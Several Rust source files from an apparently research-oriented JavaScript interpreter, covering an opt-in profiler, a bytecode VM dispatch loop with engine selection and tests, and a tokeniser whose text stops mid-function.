        let mut profile = self.profile.clone();
        profile.builtins = self.builtins.iter().map(|(n, c)| (Arc::clone(n), *c)).collect();
        profile.builtins.sort_by(|a, b| a.0.cmp(&b.0));
        profile
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counting_profiler_accumulates() {
        let mut p = CountingProfiler::default();
        p.record_step();
        p.record_step();
        p.record_call(3);
        p.record_call(1);
        p.record_eval();
        let log: Arc<str> = Arc::from("log");
        let get_time: Arc<str> = Arc::from("getTime");
        p.record_builtin(&log);
        p.record_builtin(&log);
        p.record_builtin(&get_time);
        let report = p.report();
        assert_eq!((report.ops, report.calls, report.evals, report.max_depth), (2, 2, 1, 3));
        assert_eq!(
            report.builtins,
            vec![(Arc::from("getTime"), 1), (Arc::from("log"), 2)],
            "builtins must be name-sorted with summed counts"
        );
    }
}

#[cfg(test)]
mod interp_tests {
    use crate::Interp;

    #[test]
    fn profiling_observes_a_script_run() {
        let mut interp = Interp::new();
        interp.enable_profiling();
        interp
            .eval_script(
                "function f(n) { return n <= 1 ? 1 : n * f(n - 1); }\n\
                 var x = f(6);\n\
                 eval('x + 1');",
                "profiled",
            )
            .unwrap();
        let p = interp.take_profile().unwrap();
        assert!(p.ops > 0, "steps must be counted: {p:?}");
        assert!(p.calls >= 6, "recursive calls must be counted: {p:?}");
        assert_eq!(p.evals, 1);
        assert!(p.max_depth >= 6, "recursion depth must be tracked: {p:?}");
        assert!(interp.profiler.is_none(), "take_profile removes the profiler");
    }

    #[test]
    fn profiling_counts_builtin_dispatches_by_name() {
        let mut interp = Interp::new();
        interp.enable_profiling();
        interp
            .eval_script("var s = 'ab'.toUpperCase(); var t = 'cd'.toUpperCase();", "builtins")
            .unwrap();
        let p = interp.take_profile().unwrap();
        let upper = p.builtins.iter().find(|(n, _)| &**n == "toUpperCase");
        assert_eq!(upper.map(|(_, c)| *c), Some(2), "builtin calls tallied by name: {p:?}");
    }

    #[test]
    fn disabled_profiling_reports_nothing() {
        let mut interp = Interp::new();
        interp.eval_script("var a = 1 + 1;", "plain").unwrap();
        assert!(interp.take_profile().is_none());
    }
}
