//! Opt-in interpreter profiling.
//!
//! The scan visits ~100K sites through this interpreter, so its hot loop
//! cannot afford unconditional accounting beyond the step budget it already
//! pays. Profiling therefore hangs off `Interp.profiler`, an
//! `Option<Box<dyn Profiler>>` that is `None` unless a host (the browser
//! crate, driven by telemetry knobs) enables it — the disabled cost is a
//! single `if let` branch per hook site.

/// Aggregated per-page interpreter counts.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Profile {
    /// Statements executed (same unit as the step budget).
    pub ops: u64,
    /// Function calls dispatched (script and native).
    pub calls: u64,
    /// `eval()` invocations.
    pub evals: u64,
    /// Deepest call-stack depth reached.
    pub max_depth: usize,
}

/// Hooks the interpreter invokes when profiling is enabled. All methods
/// default to no-ops so partial profilers stay small.
pub trait Profiler {
    fn record_step(&mut self) {}
    fn record_call(&mut self, _depth: usize) {}
    fn record_eval(&mut self) {}
    fn report(&self) -> Profile {
        Profile::default()
    }
}

/// The standard profiler: counts ops, calls, evals, and peak depth.
#[derive(Debug, Default)]
pub struct CountingProfiler {
    profile: Profile,
}

impl Profiler for CountingProfiler {
    fn record_step(&mut self) {
        self.profile.ops += 1;
    }

    fn record_call(&mut self, depth: usize) {
        self.profile.calls += 1;
        if depth > self.profile.max_depth {
            self.profile.max_depth = depth;
        }
    }

    fn record_eval(&mut self) {
        self.profile.evals += 1;
    }

    fn report(&self) -> Profile {
        self.profile
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counting_profiler_accumulates() {
        let mut p = CountingProfiler::default();
        p.record_step();
        p.record_step();
        p.record_call(3);
        p.record_call(1);
        p.record_eval();
        assert_eq!(p.report(), Profile { ops: 2, calls: 2, evals: 1, max_depth: 3 });
    }
}

#[cfg(test)]
mod interp_tests {
    use crate::Interp;

    #[test]
    fn profiling_observes_a_script_run() {
        let mut interp = Interp::new();
        interp.enable_profiling();
        interp
            .eval_script(
                "function f(n) { return n <= 1 ? 1 : n * f(n - 1); }\n\
                 var x = f(6);\n\
                 eval('x + 1');",
                "profiled",
            )
            .unwrap();
        let p = interp.take_profile().unwrap();
        assert!(p.ops > 0, "steps must be counted: {p:?}");
        assert!(p.calls >= 6, "recursive calls must be counted: {p:?}");
        assert_eq!(p.evals, 1);
        assert!(p.max_depth >= 6, "recursion depth must be tracked: {p:?}");
        assert!(interp.profiler.is_none(), "take_profile removes the profiler");
    }

    #[test]
    fn disabled_profiling_reports_nothing() {
        let mut interp = Interp::new();
        interp.eval_script("var a = 1 + 1;", "plain").unwrap();
        assert!(interp.take_profile().is_none());
    }
}
