//! The bytecode VM: a stack dispatch loop over [`crate::bytecode::Chunk`]s,
//! plus the backend-agnostic [`Engine`] selection API.
//!
//! The VM reuses the interpreter's entire runtime — heap, scopes, frames,
//! builtins, step budget, profiler hooks — and only replaces the *walk*:
//! where the tree-walker recurses over the AST, [`run_chunk`] advances a
//! program counter over flat instructions. Everything observable (error
//! objects and messages, `Error.stack` lines, heap allocation order, step
//! charges, per-builtin dispatch counts) is routed through the same
//! interpreter methods the tree-walker calls, which is what makes the two
//! backends byte-identical; see `bytecode.rs` for the compilation contract
//! and `tests/differential.rs` for the property harness that enforces it.

use std::sync::atomic::{AtomicU8, Ordering};
use std::sync::Arc;

use crate::bytecode::{Chunk, Insn};
use crate::error::Thrown;
use crate::interp::{to_int32, ErrorKind, Flow, Interp, ScopeRef};
use crate::object::Property;
use crate::value::Value;

/// Which execution backend an [`Interp`] uses for script code. The
/// tree-walking interpreter is the reference oracle; the bytecode VM is the
/// production backend. `eval` bodies always tree-walk (they are one-shot by
/// construction), and both engines share every runtime path below the
/// statement walk.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Engine {
    /// AST tree-walker (the reference oracle).
    Tree,
    /// Bytecode compiler + stack VM (the default).
    Vm,
}

/// Process-wide default backend: 0 = undecided, 1 = tree, 2 = vm.
static ENGINE: AtomicU8 = AtomicU8::new(0);

/// Set the process-wide default engine, picked up by every subsequently
/// built realm ([`Interp::new`] and [`Interp::clone_realm`] both read it).
pub fn set_default_engine(e: Engine) {
    ENGINE.store(
        match e {
            Engine::Tree => 1,
            Engine::Vm => 2,
        },
        Ordering::Relaxed,
    );
}

/// The process-wide default engine. First use consults `GULLIBLE_ENGINE`
/// (`tree` selects the oracle; anything else, or unset, the VM). Like
/// `FaultPlan::from_env`, this is a documented exception to the rule that
/// only `bench::env` parses `GULLIBLE_*` names: the engine must flip for
/// plain `cargo test` runs too, where the bench knob layer never runs.
pub fn default_engine() -> Engine {
    match ENGINE.load(Ordering::Relaxed) {
        1 => Engine::Tree,
        2 => Engine::Vm,
        _ => {
            let e = match std::env::var("GULLIBLE_ENGINE")
                .ok()
                .map(|v| v.to_ascii_lowercase())
                .as_deref()
            {
                Some("tree") => Engine::Tree,
                _ => Engine::Vm,
            };
            set_default_engine(e);
            e
        }
    }
}

/// Live `for`-`in` / `for`-`of` iteration state (per chunk activation, so
/// an error or `return` tears it down with the frame).
enum Iter {
    Keys { keys: Vec<Arc<str>>, idx: usize },
    Items { items: Vec<Value>, idx: usize },
}

/// Execute one chunk in `scope`. The caller owns the surrounding frame
/// bookkeeping (`Interp::call` / `eval_program` push and pop the frame for
/// both engines), so an `Err` propagates with the interpreter state exactly
/// as the tree-walker would leave it.
pub(crate) fn run_chunk(it: &mut Interp, chunk: &Chunk, scope: &ScopeRef) -> Result<Value, Thrown> {
    // Value stacks are pooled on the interpreter so a function call does
    // not pay a heap allocation per activation; recursion depth (bounded
    // by `max_depth`) bounds the pool.
    let mut stack = it.vm_stacks.pop().unwrap_or_default();
    let r = dispatch(it, chunk, scope, &mut stack);
    stack.clear();
    it.vm_stacks.push(stack);
    r
}

/// The dispatch loop proper, on a borrowed (pooled) value stack.
fn dispatch(
    it: &mut Interp,
    chunk: &Chunk,
    scope: &ScopeRef,
    stack: &mut Vec<Value>,
) -> Result<Value, Thrown> {
    let mut pc: usize = 0;
    let mut iters: Vec<Iter> = Vec::new();
    let mut last = Value::Undefined;
    loop {
        let insn = &chunk.insns[pc];
        pc += 1;
        match insn {
            Insn::Step(n) => it.charge_steps(*n)?,
            Insn::SetLine(n) => {
                if let Some(f) = it.stack.last_mut() {
                    f.line = *n;
                }
            }
            Insn::Const(i) => stack.push(chunk.consts[*i as usize].clone()),
            Insn::Dup => {
                let v = stack.last().expect("vm stack underflow").clone();
                stack.push(v);
            }
            Insn::Pop => {
                stack.pop();
            }
            Insn::Swap => {
                let n = stack.len();
                stack.swap(n - 1, n - 2);
            }
            Insn::Jump(t) => pc = *t as usize,
            Insn::JumpIfFalsy(t) => {
                let v = stack.pop().expect("vm stack underflow");
                if !v.truthy() {
                    pc = *t as usize;
                }
            }
            Insn::JumpFalsyKeep(t) => {
                if stack.last().expect("vm stack underflow").truthy() {
                    stack.pop();
                } else {
                    pc = *t as usize;
                }
            }
            Insn::JumpTruthyKeep(t) => {
                if stack.last().expect("vm stack underflow").truthy() {
                    pc = *t as usize;
                } else {
                    stack.pop();
                }
            }
            Insn::LoadThis => stack.push(it.resolve_this(scope)),
            Insn::LoadIdent(i) => {
                let i = *i as usize;
                match it.lookup_ident_fast(scope, chunk.atoms[i], &chunk.names[i]) {
                    Some(v) => stack.push(v),
                    None => {
                        return Err(it.throw_error(
                            ErrorKind::Reference,
                            &format!("{} is not defined", chunk.names[i]),
                        ))
                    }
                }
            }
            Insn::TypeOfIdent(i) => {
                let i = *i as usize;
                let v = match it.lookup_ident_fast(scope, chunk.atoms[i], &chunk.names[i]) {
                    Some(v) => Value::str(it.type_of(&v)),
                    None => Value::str("undefined"),
                };
                stack.push(v);
            }
            Insn::StoreIdent(i) => {
                let i = *i as usize;
                let v = stack.pop().expect("vm stack underflow");
                it.assign_ident_fast(scope, chunk.atoms[i], &chunk.names[i], v)?;
            }
            Insn::Declare(i) => {
                let i = *i as usize;
                let v = stack.pop().expect("vm stack underflow");
                it.declare_fast(scope, chunk.atoms[i], &chunk.names[i], v);
            }
            Insn::Hoist(i) => {
                let def = chunk.fns[*i as usize].clone();
                let name = def.name.clone();
                let f = it.alloc_script_fn(def, scope.clone());
                it.declare(scope, name, Value::Obj(f));
            }
            Insn::MakeFunction(i) => {
                let def = chunk.fns[*i as usize].clone();
                let f = it.alloc_script_fn(def, scope.clone());
                stack.push(Value::Obj(f));
            }
            Insn::MakeArray(n) => {
                let vals = stack.split_off(stack.len() - *n as usize);
                let id = it.alloc_array(vals);
                stack.push(Value::Obj(id));
            }
            Insn::AllocObject => {
                let id = it.alloc_object();
                stack.push(Value::Obj(id));
            }
            Insn::SetOwnProp(i) => {
                let v = stack.pop().expect("vm stack underflow");
                if let Some(Value::Obj(id)) = stack.last() {
                    it.heap
                        .get_mut(*id)
                        .props
                        .insert(chunk.names[*i as usize].clone(), Property::data(v));
                }
            }
            Insn::GetProp(i) => {
                let base = stack.pop().expect("vm stack underflow");
                let r = it.get_prop(&base, &chunk.names[*i as usize])?;
                stack.push(r);
            }
            Insn::GetIndex => {
                let index = stack.pop().expect("vm stack underflow");
                let base = stack.pop().expect("vm stack underflow");
                let key = it.to_string_value(&index)?;
                let r = it.get_prop(&base, &key)?;
                stack.push(r);
            }
            Insn::SetProp(i) => {
                let base = stack.pop().expect("vm stack underflow");
                let v = stack.pop().expect("vm stack underflow");
                it.set_prop(&base, &chunk.names[*i as usize], v)?;
            }
            Insn::SetIndex => {
                let index = stack.pop().expect("vm stack underflow");
                let base = stack.pop().expect("vm stack underflow");
                let v = stack.pop().expect("vm stack underflow");
                let key = it.to_string_value(&index)?;
                it.set_prop(&base, &key, v)?;
            }
            Insn::DeleteProp(i) => {
                let base = stack.pop().expect("vm stack underflow");
                let r = it.delete_prop(&base, &chunk.names[*i as usize]);
                stack.push(Value::Bool(r));
            }
            Insn::DeleteIndex => {
                let index = stack.pop().expect("vm stack underflow");
                let base = stack.pop().expect("vm stack underflow");
                let key = it.to_string_value(&index)?;
                let r = it.delete_prop(&base, &key);
                stack.push(Value::Bool(r));
            }
            Insn::BinOp(op) => {
                let r = stack.pop().expect("vm stack underflow");
                let l = stack.pop().expect("vm stack underflow");
                // Numeric fast path: `Interp::binary_op` is pure (no heap
                // access, no conversions with side effects) when both
                // operands are numbers, so these arms are exactly its
                // `(Num, Num)` results without the call.
                let v = if let (&Value::Num(a), &Value::Num(b)) = (&l, &r) {
                    use crate::ast::BinOp::*;
                    match op {
                        Add => Value::Num(a + b),
                        Sub => Value::Num(a - b),
                        Mul => Value::Num(a * b),
                        Div => Value::Num(a / b),
                        Rem => Value::Num(a % b),
                        Lt => Value::Bool(a < b),
                        Gt => Value::Bool(a > b),
                        Le => Value::Bool(a <= b),
                        Ge => Value::Bool(a >= b),
                        StrictEq | Eq => Value::Bool(a == b),
                        StrictNotEq | NotEq => Value::Bool(a != b),
                        _ => it.binary_op(*op, l, r)?,
                    }
                } else {
                    it.binary_op(*op, l, r)?
                };
                stack.push(v);
            }
            Insn::UnOp(op) => {
                let v = stack.pop().expect("vm stack underflow");
                let r = match op {
                    crate::ast::UnOp::Neg => Value::Num(-it.to_number_value(&v)?),
                    crate::ast::UnOp::Plus => Value::Num(it.to_number_value(&v)?),
                    crate::ast::UnOp::Not => Value::Bool(!v.truthy()),
                    crate::ast::UnOp::BitNot => {
                        Value::Num(!to_int32(it.to_number_value(&v)?) as f64)
                    }
                    crate::ast::UnOp::TypeOf => Value::str(it.type_of(&v)),
                    crate::ast::UnOp::Void => Value::Undefined,
                };
                stack.push(r);
            }
            Insn::ToNumber => {
                match stack.last().expect("vm stack underflow") {
                    // Already a number: conversion is the identity, with no
                    // observable work — leave it in place.
                    Value::Num(_) => {}
                    _ => {
                        let v = stack.pop().expect("vm stack underflow");
                        let n = it.to_number_value(&v)?;
                        stack.push(Value::Num(n));
                    }
                }
            }
            Insn::IncDec(inc) => {
                let Some(Value::Num(n)) = stack.pop() else {
                    unreachable!("IncDec on non-number")
                };
                stack.push(Value::Num(if *inc { n + 1.0 } else { n - 1.0 }));
            }
            Insn::GetMethod(i) => {
                let base = stack.last().expect("vm stack underflow").clone();
                let f = it.get_prop(&base, &chunk.names[*i as usize])?;
                stack.push(f);
            }
            Insn::GetIndexMethod => {
                let index = stack.pop().expect("vm stack underflow");
                let base = stack.last().expect("vm stack underflow").clone();
                let key = it.to_string_value(&index)?;
                let f = it.get_prop(&base, &key)?;
                stack.push(f);
            }
            Insn::CallVal { argc, name, with_this } => {
                let args = stack.split_off(stack.len() - *argc as usize);
                let func = stack.pop().expect("vm stack underflow");
                let this = if *with_this {
                    stack.pop().expect("vm stack underflow")
                } else {
                    Value::Obj(it.global)
                };
                if !matches!(func, Value::Obj(_)) {
                    let name = &chunk.names[*name as usize];
                    return Err(
                        it.throw_error(ErrorKind::Type, &format!("{name} is not a function"))
                    );
                }
                let r = it.call(func, this, &args)?;
                stack.push(r);
            }
            Insn::New { argc } => {
                let args = stack.split_off(stack.len() - *argc as usize);
                let ctor = stack.pop().expect("vm stack underflow");
                let r = it.construct(ctor, &args)?;
                stack.push(r);
            }
            Insn::EvalCheck(t) => {
                if it.lookup_ident(scope, "eval").is_none() {
                    pc = *t as usize;
                }
            }
            Insn::EvalInScope => {
                let arg = stack.pop().expect("vm stack underflow");
                let r = it.eval_in_scope(arg, scope)?;
                stack.push(r);
            }
            Insn::ThrowInsn => {
                let v = stack.pop().expect("vm stack underflow");
                let msg = match &v {
                    Value::Obj(_) => {
                        let m = it.get_prop(&v, "message").unwrap_or(Value::Undefined);
                        format!("Error: {m}")
                    }
                    prim => prim.to_string(),
                };
                return Err(Thrown::new(v, msg));
            }
            Insn::IterKeys(i) => {
                let v = stack.pop().expect("vm stack underflow");
                let keys = it.enumerate_keys(&v);
                iters.push(Iter::Keys { keys, idx: 0 });
                let i = *i as usize;
                it.declare_fast(scope, chunk.atoms[i], &chunk.names[i], Value::Undefined);
            }
            Insn::IterItems(i) => {
                let v = stack.pop().expect("vm stack underflow");
                let items: Vec<Value> = match &v {
                    Value::Obj(id) => match &it.heap.get(*id).elements {
                        Some(elems) => elems.clone(),
                        None => {
                            return Err(
                                it.throw_error(ErrorKind::Type, "value is not iterable")
                            )
                        }
                    },
                    Value::Str(s) => s.chars().map(|c| Value::str(c.to_string())).collect(),
                    _ => {
                        return Err(it.throw_error(ErrorKind::Type, "value is not iterable"))
                    }
                };
                iters.push(Iter::Items { items, idx: 0 });
                let i = *i as usize;
                it.declare_fast(scope, chunk.atoms[i], &chunk.names[i], Value::Undefined);
            }
            Insn::IterNext { var, done } => {
                let next = match iters.last_mut().expect("vm iter underflow") {
                    Iter::Keys { keys, idx } => {
                        if *idx < keys.len() {
                            let k = keys[*idx].clone();
                            *idx += 1;
                            Some(Value::Str(k))
                        } else {
                            None
                        }
                    }
                    Iter::Items { items, idx } => {
                        if *idx < items.len() {
                            let v = items[*idx].clone();
                            *idx += 1;
                            Some(v)
                        } else {
                            None
                        }
                    }
                };
                match next {
                    Some(v) => {
                        let var = *var as usize;
                        it.assign_ident_fast(scope, chunk.atoms[var], &chunk.names[var], v)?
                    }
                    None => pc = *done as usize,
                }
            }
            Insn::IterEnd => {
                iters.pop();
            }
            Insn::TreeStmt { stmt, brk, cont, ret } => {
                let s = chunk.stmts[*stmt as usize].clone();
                match it.exec_stmt(&s, scope)? {
                    Flow::Normal => {}
                    Flow::Break => pc = *brk as usize,
                    Flow::Continue => pc = *cont as usize,
                    Flow::Return(v) => {
                        if *ret == u32::MAX {
                            return Ok(v);
                        }
                        pc = *ret as usize; // top level swallows the value
                    }
                }
            }
            Insn::SetLast => last = stack.pop().expect("vm stack underflow"),
            Insn::LoadLast => stack.push(last.clone()),
            Insn::Ret => return Ok(stack.pop().expect("vm stack underflow")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::EngineError;

    fn vm_interp() -> Interp {
        let mut it = Interp::new();
        it.engine = Engine::Vm;
        it
    }

    #[test]
    fn frames_tear_down_on_thrown_errors() {
        let mut it = vm_interp();
        let err = it
            .eval_script(
                "function f() { missing; }\nfunction g() { f(); }\ng();",
                "teardown.js",
            )
            .unwrap_err();
        match err {
            EngineError::Uncaught(t) => {
                assert!(t.message.contains("missing is not defined"), "{}", t.message)
            }
            other => panic!("expected uncaught, got {other:?}"),
        }
        // The whole frame stack unwound, including g's and f's frames.
        assert!(it.stack.is_empty(), "stack not torn down: {:?}", it.stack);
        // And the realm still works.
        let v = it.eval_script("1 + 1", "after.js").unwrap();
        assert_eq!(v, Value::Num(2.0));
    }

    #[test]
    fn iterator_state_tears_down_with_the_frame() {
        let mut it = vm_interp();
        let err = it
            .eval_script(
                "function f(o) { for (var k in o) { if (k == 'b') { boom(); } } return 1; }
                 f({a: 1, b: 2, c: 3});",
                "iter.js",
            )
            .unwrap_err();
        assert!(matches!(err, EngineError::Uncaught(_)));
        assert!(it.stack.is_empty());
        // A fresh call reuses the same compiled chunk and iterates cleanly.
        let v = it
            .eval_script(
                "function g(o) { var n = 0; for (var k in o) { n++; } return n; }
                 g({a: 1, b: 2});",
                "iter2.js",
            )
            .unwrap();
        assert_eq!(v, Value::Num(2.0));
    }

    #[test]
    fn engine_selection_is_per_interp() {
        let mut tree = Interp::new();
        tree.engine = Engine::Tree;
        let mut vm = Interp::new();
        vm.engine = Engine::Vm;
        let src = "var xs = [1, 2, 3];\nvar sum = 0;\nfor (var i = 0; i < xs.length; i++) { sum += xs[i]; }\nsum";
        let a = tree.eval_script(src, "sel.js").unwrap();
        let b = vm.eval_script(src, "sel.js").unwrap();
        assert_eq!(a, b);
        assert_eq!(b, Value::Num(6.0));
    }

    #[test]
    fn default_engine_round_trips() {
        let before = default_engine();
        set_default_engine(Engine::Tree);
        assert_eq!(default_engine(), Engine::Tree);
        set_default_engine(Engine::Vm);
        assert_eq!(default_engine(), Engine::Vm);
        set_default_engine(before);
    }
}
