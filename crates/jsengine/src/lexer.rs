//! Tokeniser for the MiniJS subset.
//!
//! Supports the token set needed by page scripts, detector scripts and the
//! OpenWPM instrumentation wrappers: identifiers, number/string literals
//! (with `\x`/`\u` escapes, since the static-analysis evaluation needs
//! hex-obfuscated scripts to actually run), template-free strings, the
//! operator set of ES5 expressions, and comments (line and block).

use std::fmt;
use std::sync::Arc;

/// A lexical token with its source line (1-based), used for error reporting
/// and for `Error.stack` line numbers.
#[derive(Clone, Debug, PartialEq)]
pub struct Token {
    pub kind: Tok,
    pub line: u32,
    /// Byte offset of the token start in the source; function definitions
    /// use spans to recover their exact source text for `toString`.
    pub start: usize,
}

#[derive(Clone, Debug, PartialEq)]
pub enum Tok {
    // Literals and names
    Num(f64),
    Str(Arc<str>),
    Ident(Arc<str>),
    // Keywords
    Var,
    Let,
    Const,
    Function,
    Return,
    If,
    Else,
    While,
    For,
    In,
    Of,
    Break,
    Continue,
    New,
    Delete,
    Typeof,
    Instanceof,
    Try,
    Catch,
    Finally,
    Throw,
    True,
    False,
    Null,
    Undefined,
    This,
    // Punctuation
    LParen,
    RParen,
    LBrace,
    RBrace,
    LBracket,
    RBracket,
    Semi,
    Comma,
    Dot,
    Colon,
    Question,
    Arrow, // =>
    // Operators
    Assign,        // =
    PlusAssign,    // +=
    MinusAssign,   // -=
    StarAssign,    // *=
    SlashAssign,   // /=
    Plus,
    Minus,
    Star,
    Slash,
    Percent,
    PlusPlus,
    MinusMinus,
    EqEq,
    NotEq,
    EqEqEq,
    NotEqEq,
    Lt,
    Gt,
    Le,
    Ge,
    AndAnd,
    OrOr,
    Not,
    BitAnd,
    BitOr,
    BitXor,
    Shl,
    Shr,
    UShr,
    Tilde,
    Eof,
}

impl fmt::Display for Tok {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{self:?}")
    }
}

/// Lexing failure with line info.
#[derive(Clone, Debug)]
pub struct LexError {
    pub line: u32,
    pub message: String,
}

/// Tokenise `src` into a vector ending with `Tok::Eof`.
pub fn lex(src: &str) -> Result<Vec<Token>, LexError> {
    Lexer { src: src.as_bytes(), pos: 0, line: 1 }.run()
}

struct Lexer<'a> {
    src: &'a [u8],
    pos: usize,
    line: u32,
}

impl<'a> Lexer<'a> {
    fn run(mut self) -> Result<Vec<Token>, LexError> {
        let mut out = Vec::new();
        loop {
            self.skip_ws_and_comments()?;
            let start = self.pos;
            let line = self.line;
            let Some(&c) = self.src.get(self.pos) else {
                out.push(Token { kind: Tok::Eof, line, start });
                return Ok(out);
            };
            let kind = match c {
                b'0'..=b'9' => self.number()?,
                b'"' | b'\'' => self.string(c)?,
                b'`' => self.template_string()?,
                c if is_ident_start(c) => self.ident(),
                _ => self.punct()?,
            };
            out.push(Token { kind, line, start });
        }
    }

    fn err(&self, msg: impl Into<String>) -> LexError {
        LexError { line: self.line, message: msg.into() }
    }

    fn skip_ws_and_comments(&mut self) -> Result<(), LexError> {
        loop {
            match self.src.get(self.pos) {
                Some(b'\n') => {
                    self.line += 1;
                    self.pos += 1;
                }
                Some(b' ') | Some(b'\t') | Some(b'\r') => self.pos += 1,
                Some(b'\\') if self.src.get(self.pos + 1) == Some(&b'\n') => {
                    // Line continuation outside strings (appears in the
                    // paper's Listing 1 wrapper source); treat as whitespace.
                    self.line += 1;
                    self.pos += 2;
                }
                Some(b'/') if self.src.get(self.pos + 1) == Some(&b'/') => {
                    while let Some(&c) = self.src.get(self.pos) {
                        self.pos += 1;
                        if c == b'\n' {
                            self.line += 1;
                            break;
                        }
                    }
                }
                Some(b'/') if self.src.get(self.pos + 1) == Some(&b'*') => {
                    self.pos += 2;
                    loop {
                        match self.src.get(self.pos) {
                            Some(b'*') if self.src.get(self.pos + 1) == Some(&b'/') => {
                                self.pos += 2;
                                break;
                            }
                            Some(b'\n') => {
                                self.line += 1;
                                self.pos += 1;
                            }
                            Some(_) => self.pos += 1,
                            None => return Err(self.err("unterminated block comment")),
                        }
                    }
                }
                _ => return Ok(()),
            }
        }
    }

    fn number(&mut self) -> Result<Tok, LexError> {
        let start = self.pos;
        // Hex literal.
        if self.src[self.pos] == b'0'
            && matches!(self.src.get(self.pos + 1), Some(b'x') | Some(b'X'))
        {
            self.pos += 2;
            let hstart = self.pos;
            while self.src.get(self.pos).is_some_and(u8::is_ascii_hexdigit) {
                self.pos += 1;
            }
            if self.pos == hstart {
                return Err(self.err("malformed hex literal"));
            }
            let text = std::str::from_utf8(&self.src[hstart..self.pos]).unwrap();
            let v = i64::from_str_radix(text, 16)
                .map_err(|e| self.err(format!("hex literal: {e}")))?;
            return Ok(Tok::Num(v as f64));
        }
        while self.src.get(self.pos).is_some_and(u8::is_ascii_digit) {
            self.pos += 1;
        }
        if self.src.get(self.pos) == Some(&b'.')
            && self.src.get(self.pos + 1).is_some_and(u8::is_ascii_digit)
        {
            self.pos += 1;
            while self.src.get(self.pos).is_some_and(u8::is_ascii_digit) {
                self.pos += 1;
            }
        }
        if matches!(self.src.get(self.pos), Some(b'e') | Some(b'E')) {
            let mut p = self.pos + 1;
            if matches!(self.src.get(p), Some(b'+') | Some(b'-')) {
                p += 1;
            }
            if self.src.get(p).is_some_and(u8::is_ascii_digit) {
                self.pos = p;
                while self.src.get(self.pos).is_some_and(u8::is_ascii_digit) {
                    self.pos += 1;
                }
            }
        }
        let text = std::str::from_utf8(&self.src[start..self.pos]).unwrap();
        text.parse::<f64>().map(Tok::Num).map_err(|e| self.err(format!("number: {e}")))
    }

    fn string(&mut self, quote: u8) -> Result<Tok, LexError> {
        self.pos += 1; // opening quote
        let mut s = String::new();
        loop {
            match self.src.get(self.pos) {
                None | Some(b'\n') => return Err(self.err("unterminated string")),
                Some(&c) if c == quote => {
                    self.pos += 1;
                    return Ok(Tok::Str(Arc::from(s)));
                }
                Some(b'\\') => {
                    self.pos += 1;
                    let esc = *self.src.get(self.pos).ok_or_else(|| self.err("bad escape"))?;
                    self.pos += 1;
                    match esc {
                        b'n' => s.push('\n'),
                        b't' => s.push('\t'),
                        b'r' => s.push('\r'),
                        b'0' => s.push('\0'),
                        b'\\' => s.push('\\'),
                        b'\'' => s.push('\''),
                        b'"' => s.push('"'),
                        b'`' => s.push('`'),
                        b'\n' => self.line += 1, // escaped newline: continuation
                        b'x' => {
                            let hex = self.take_hex(2)?;
                            s.push(hex as u8 as char);
                        }
                        b'u' => {
                            let hex = self.take_hex(4)?;
                            s.push(char::from_u32(hex).unwrap_or('\u{FFFD}'));
                        }
                        other => s.push(other as char),
                    }
                }
                Some(&c) => {
                    // Copy a full UTF-8 sequence through.
                    let ch_len = utf8_len(c);
                    let bytes = &self.src[self.pos..self.pos + ch_len];
                    s.push_str(std::str::from_utf8(bytes).map_err(|_| self.err("bad utf8"))?);
                    self.pos += ch_len;
                }
            }
        }
    }

    /// Backtick strings without `${}` interpolation (enough for the corpus).
    fn template_string(&mut self) -> Result<Tok, LexError> {
        self.string(b'`')
    }

    fn take_hex(&mut self, n: usize) -> Result<u32, LexError> {
        let end = self.pos + n;
        if end > self.src.len() {
            return Err(self.err("truncated hex escape"));
        }
        let text = std::str::from_utf8(&self.src[self.pos..end])
            .map_err(|_| self.err("bad hex escape"))?;
        let v = u32::from_str_radix(text, 16).map_err(|_| self.err("bad hex escape"))?;
        self.pos = end;
        Ok(v)
    }

    fn ident(&mut self) -> Tok {
        let start = self.pos;
        while self.src.get(self.pos).is_some_and(|&c| is_ident_part(c)) {
            self.pos += 1;
        }
        let text = std::str::from_utf8(&self.src[start..self.pos]).unwrap();
        match text {
            "var" => Tok::Var,
            "let" => Tok::Let,
            "const" => Tok::Const,
            "function" => Tok::Function,
            "return" => Tok::Return,
            "if" => Tok::If,
            "else" => Tok::Else,
            "while" => Tok::While,
            "for" => Tok::For,
            "in" => Tok::In,
            "of" => Tok::Of,
            "break" => Tok::Break,
            "continue" => Tok::Continue,
            "new" => Tok::New,
            "delete" => Tok::Delete,
            "typeof" => Tok::Typeof,
            "instanceof" => Tok::Instanceof,
            "try" => Tok::Try,
            "catch" => Tok::Catch,
            "finally" => Tok::Finally,
            "throw" => Tok::Throw,
            "true" => Tok::True,
            "false" => Tok::False,
            "null" => Tok::Null,
            "undefined" => Tok::Undefined,
            "this" => Tok::This,
            _ => Tok::Ident(Arc::from(text)),
        }
    }

    fn punct(&mut self) -> Result<Tok, LexError> {
        let rest = &self.src[self.pos..];
        // Longest-match over multi-byte operators first.
        const THREE: &[(&[u8], Tok)] = &[
            (b"===", Tok::EqEqEq),
            (b"!==", Tok::NotEqEq),
            (b">>>", Tok::UShr),
        ];
        const TWO: &[(&[u8], Tok)] = &[
            (b"==", Tok::EqEq),
            (b"!=", Tok::NotEq),
            (b"<=", Tok::Le),
            (b">=", Tok::Ge),
            (b"&&", Tok::AndAnd),
            (b"||", Tok::OrOr),
            (b"++", Tok::PlusPlus),
            (b"--", Tok::MinusMinus),
            (b"+=", Tok::PlusAssign),
            (b"-=", Tok::MinusAssign),
            (b"*=", Tok::StarAssign),
            (b"/=", Tok::SlashAssign),
            (b"=>", Tok::Arrow),
            (b"<<", Tok::Shl),
            (b">>", Tok::Shr),
        ];
        for (pat, tok) in THREE {
            if rest.starts_with(pat) {
                self.pos += 3;
                return Ok(tok.clone());
            }
        }
        for (pat, tok) in TWO {
            if rest.starts_with(pat) {
                self.pos += 2;
                return Ok(tok.clone());
            }
        }
        let tok = match rest.first() {
            Some(b'(') => Tok::LParen,
            Some(b')') => Tok::RParen,
            Some(b'{') => Tok::LBrace,
            Some(b'}') => Tok::RBrace,
            Some(b'[') => Tok::LBracket,
            Some(b']') => Tok::RBracket,
            Some(b';') => Tok::Semi,
            Some(b',') => Tok::Comma,
            Some(b'.') => Tok::Dot,
